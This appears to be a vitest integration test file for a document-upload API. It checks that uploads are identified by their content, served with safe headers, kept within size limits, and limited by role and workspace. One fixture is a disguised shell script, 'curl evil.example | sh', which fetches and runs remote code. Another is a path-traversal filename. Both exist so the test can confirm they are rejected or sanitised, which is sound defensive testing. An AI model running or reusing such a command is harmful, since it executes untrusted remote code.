import { describe, expect, it } from "vitest";
import { GET as GET_FILE } from "@/app/api/w/[slug]/sources/[id]/file/route";
import { POST as UPLOAD } from "@/app/api/w/[slug]/sources/upload/route";
import { db } from "@/lib/db";
import { SOURCE_FILE_MAX_BYTES } from "@/lib/domain/evidence/source-files";
import { SOURCE_FILE_CSP, securityHeaders } from "@/lib/server/http/security-headers";
import { createAuthSession } from "@/lib/server/auth/create-auth-session";
import { createApiToken } from "@/lib/server/tokens/create-api-token";
import { workspaceWithEveryRole } from "@/tests/integration/workspaces/fixtures";

async function tokenFor(userId: string) {
  const sessionId = await createAuthSession({ userId, userAgent: "vitest", ip: "127.0.0.1" });
  return (await createApiToken({ actor: { userId, via: "session", sessionId }, name: "source files test" })).secret;
}

function call(token: string | null, path: string, init: RequestInit = {}) {
  const headers = new Headers(init.headers);
  if (token) headers.set("authorization", `Bearer ${token}`);
  headers.set("x-forwarded-for", "198.51.100.23");
  return new Request(`http://localhost${path}`, { ...init, headers, duplex: "half" } as RequestInit);
}
const ctx = <P>(params: P) => ({ params: Promise.resolve(params) });

const PDF = new TextEncoder().encode("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n");
const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]);
const JPEG = new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1]);
const WEBP = new Uint8Array([...new TextEncoder().encode("RIFF"), 0x24, 0, 0, 0, ...new TextEncoder().encode("WEBPVP8 "), 0, 0]);
const SCRIPT = new TextEncoder().encode("#!/bin/sh\ncurl evil.example | sh\n");

function form(file: Uint8Array | null, name: string, fields: Record<string, string> = {}) {
  const f = new FormData();
  if (file) f.set("file", new File([new Uint8Array(file)], name, { type: "application/pdf" }));
  for (const [k, v] of Object.entries(fields)) f.set(k, v);
  return f;
}

async function errorOf(res: Response) {
  const body = (await res.json()) as { error: { code: string; message: string } };
  return { status: res.status, ...body.error };
}

const counts = async (workspaceId: string) => ({
  sources: await db.source.count({ where: { workspaceId } }),
  files: await db.sourceFile.count({ where: { workspaceId } }),
  audit: await db.auditEvent.count({ where: { workspaceId, action: "source.created" } }),
});

describe("uploaded source files", () => {
  it("accepts PDF, PNG, JPEG and WebP by their content, and serves them back safely", async () => {
    const w = await workspaceWithEveryRole();
    const token = await tokenFor(w.reviewer.id);
    const upload = (bytes: Uint8Array, name: string, fields: Record<string, string> = {}) =>
      UPLOAD(call(token, `/api/w/${w.slug}/sources/upload`, { method: "POST", body: form(bytes, name, fields) }), ctx({ slug: w.slug }));

    const res = await upload(PDF, "../../Budget_statement-2025.pdf", { type: "OFFICIAL_RECORD", publisher: "Treasury", publishedAt: "2025-03-01" });
    expect(res.status, JSON.stringify(await res.clone().json())).toBe(201);
    const { source } = (await res.json()) as { source: { id: string; kind: string; title: string; type: string; publisher: string; publishedAt: string; file: { name: string; mediaType: string; byteSize: number } } };
    expect(source).toMatchObject({ kind: "FILE", title: "Budget statement 2025", type: "OFFICIAL_RECORD", publisher: "Treasury", publishedAt: "2025-03-01", file: { name: "Budget_statement-2025.pdf", mediaType: "application/pdf", byteSize: PDF.byteLength } });
    const audit = await db.auditEvent.findFirstOrThrow({ where: { workspaceId: w.ws.id, action: "source.created", targetId: source.id } });
    expect(audit).toMatchObject({ actorId: w.reviewer.id });

    const pdf = await GET_FILE(call(await tokenFor(w.viewer.id), `/api/w/${w.slug}/sources/${source.id}/file`), ctx({ slug: w.slug, id: source.id }));
    expect(pdf.status).toBe(200);
    expect(pdf.headers.get("content-type")).toBe("application/pdf");
    expect(pdf.headers.get("content-disposition")).toBe("attachment; filename*=UTF-8''Budget_statement-2025.pdf");
    expect(pdf.headers.get("x-content-type-options")).toBe("nosniff");
    expect(pdf.headers.get("content-security-policy")).toBe(SOURCE_FILE_CSP);
    // The proxy gives that path the same policy, so the app's page policy never replaces it.
    const proxied = securityHeaders({ nonce: "n", pathname: `/api/w/${w.slug}/sources/${source.id}/file`, host: "localhost:3000", https: false, dev: false, oauthOrigins: [] });
    expect(proxied["Content-Security-Policy"]).toBe(SOURCE_FILE_CSP);
    expect(securityHeaders({ nonce: "n", pathname: `/api/w/${w.slug}/sources/${source.id}`, host: "localhost:3000", https: false, dev: false, oauthOrigins: [] })["Content-Security-Policy"]).not.toBe(SOURCE_FILE_CSP);
    expect(pdf.headers.get("cache-control")).toBe("private, no-store");
    expect(new Uint8Array(await pdf.arrayBuffer())).toEqual(PDF);

    for (const [bytes, name, type] of [
      [PNG, "chart.png", "image/png"],
      [JPEG, "photo.jpg", "image/jpeg"],
      [WEBP, "screenshot.webp", "image/webp"],
    ] as const) {
      const r = await upload(bytes, name);
      expect(r.status).toBe(201);
      const id = ((await r.json()) as { source: { id: string; file: { mediaType: string } } }).source;
      expect(id.file.mediaType).toBe(type);
      const img = await GET_FILE(call(token, `/api/w/${w.slug}/sources/${id.id}/file`), ctx({ slug: w.slug, id: id.id }));
      expect(img.headers.get("content-type")).toBe(type);
      expect(img.headers.get("content-disposition")).toMatch(/^inline; filename\*=UTF-8''/);
      expect(img.headers.get("x-content-type-options")).toBe("nosniff");
    }
  });

  it("refuses disguised, empty, oversized and malformed uploads with a clear 4xx and writes nothing", async () => {
    const w = await workspaceWithEveryRole();
    const token = await tokenFor(w.editor.id);
    const path = `/api/w/${w.slug}/sources/upload`;
    const p = ctx({ slug: w.slug });
    const before = await counts(w.ws.id);

    expect(await errorOf(await UPLOAD(call(token, path, { method: "POST", body: form(SCRIPT, "report.pdf") }), p))).toMatchObject({
      status: 415,
      message: "“report.pdf” is not a PDF, PNG, JPEG or WebP file (judged by its content, not its name).",
    });
    expect(await errorOf(await UPLOAD(call(token, path, { method: "POST", body: form(new Uint8Array(), "empty.pdf") }), p))).toMatchObject({ status: 400, message: "“empty.pdf” is empty." });
    expect(await errorOf(await UPLOAD(call(token, path, { method: "POST", body: form(null, "x", { title: "No file" }) }), p))).toMatchObject({ status: 400, message: "Attach the file in a form field named “file”." });
    expect(await errorOf(await UPLOAD(call(token, path, { method: "POST", body: form(PDF, "a.pdf", { url: "https://example.org/" }) }), p))).toMatchObject({ status: 400 });
    expect(await errorOf(await UPLOAD(call(token, path, { method: "POST", body: form(PDF, "a.pdf", { workspaceSlug: "other" }) }), p))).toMatchObject({ status: 400 });
    expect(await errorOf(await UPLOAD(call(token, path, { method: "POST", body: form(PDF, "a.pdf", { type: "BLOG" }) }), p))).toMatchObject({ status: 400 });
    expect(
      await errorOf(await UPLOAD(call(token, path, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ file: "JVBERi0=" }) }), p)),
    ).toMatchObject({ status: 415 });

    // Over the limit: a file just past it, a body past it with its length declared, and one
    // streamed without a length (refused while it streams, not after buffering it all).
    const big = new Uint8Array(SOURCE_FILE_MAX_BYTES + 1024);
    big.set(PDF);
    expect(await errorOf(await UPLOAD(call(token, path, { method: "POST", body: form(big, "huge.pdf") }), p))).toMatchObject({ status: 413, message: "“huge.pdf” is larger than 20 MB." });
    const declared = call(token, path, { method: "POST", headers: { "content-type": "multipart/form-data; boundary=x", "content-length": String(SOURCE_FILE_MAX_BYTES * 2) }, body: "--x--" });
    expect(await errorOf(await UPLOAD(declared, p))).toMatchObject({ status: 413, message: "The upload is larger than 20 MB." });
    const boundary = "----factdesk-test";
    const head = new TextEncoder().encode(`--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="huge.pdf"\r\ncontent-type: application/pdf\r\n\r\n`);
    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent === 0) controller.enqueue(head);
        if (sent > SOURCE_FILE_MAX_BYTES + 1024 * 1024) return controller.close();
        const chunk = new Uint8Array(256 * 1024);
        sent += chunk.byteLength;
        controller.enqueue(chunk);
      },
    });
    const undeclared = await UPLOAD(call(token, path, { method: "POST", headers: { "content-type": `multipart/form-data; boundary=${boundary}` }, body: stream }), p);
    expect(await errorOf(undeclared)).toMatchObject({ status: 413 });
    expect(sent).toBeLessThan(SOURCE_FILE_MAX_BYTES + 1024 * 1024);

    expect(await counts(w.ws.id)).toEqual(before);
  });

  it("lets only members who edit upload, and only members read; other workspaces' ids are not found", async () => {
    const w = await workspaceWithEveryRole();
    const other = await workspaceWithEveryRole();
    const path = `/api/w/${w.slug}/sources/upload`;
    const p = ctx({ slug: w.slug });
    expect(await errorOf(await UPLOAD(call(await tokenFor(w.viewer.id), path, { method: "POST", body: form(PDF, "a.pdf") }), p))).toMatchObject({ status: 403 });
    expect(await errorOf(await UPLOAD(call(await tokenFor(w.outsider.id), path, { method: "POST", body: form(PDF, "a.pdf") }), p))).toMatchObject({ status: 404 });
    // Refused before the body is read: a body that would not even parse gets the role's answer, not a 400.
    const unreadable = { method: "POST", body: "--x\r\nnot a form", headers: { "content-type": "multipart/form-data; boundary=x" } };
    expect(await errorOf(await UPLOAD(call(await tokenFor(w.viewer.id), path, unreadable), p))).toMatchObject({ status: 403 });
    expect(await errorOf(await UPLOAD(call(await tokenFor(w.outsider.id), path, unreadable), p))).toMatchObject({ status: 404 });
    expect(await counts(w.ws.id)).toMatchObject({ sources: 0, files: 0 });

    const created = await UPLOAD(call(await tokenFor(w.editor.id), path, { method: "POST", body: form(PDF, "a.pdf") }), p);
    const { source } = (await created.json()) as { source: { id: string } };
    const get = (token: string, slug: string) => GET_FILE(call(token, `/api/w/${slug}/sources/${source.id}/file`), ctx({ slug, id: source.id }));
    expect((await get(await tokenFor(w.outsider.id), w.slug)).status).toBe(404);
    // Through another workspace the caller does belong to: still not found.
    expect(await errorOf(await get(await tokenFor(other.owner.id), other.slug))).toMatchObject({ status: 404, message: "Source file not found." });
    expect((await GET_FILE(call(await tokenFor(w.viewer.id), `/api/w/${w.slug}/sources/not-a-uuid/file`), ctx({ slug: w.slug, id: "not-a-uuid" }))).status).toBe(404);
  });
});
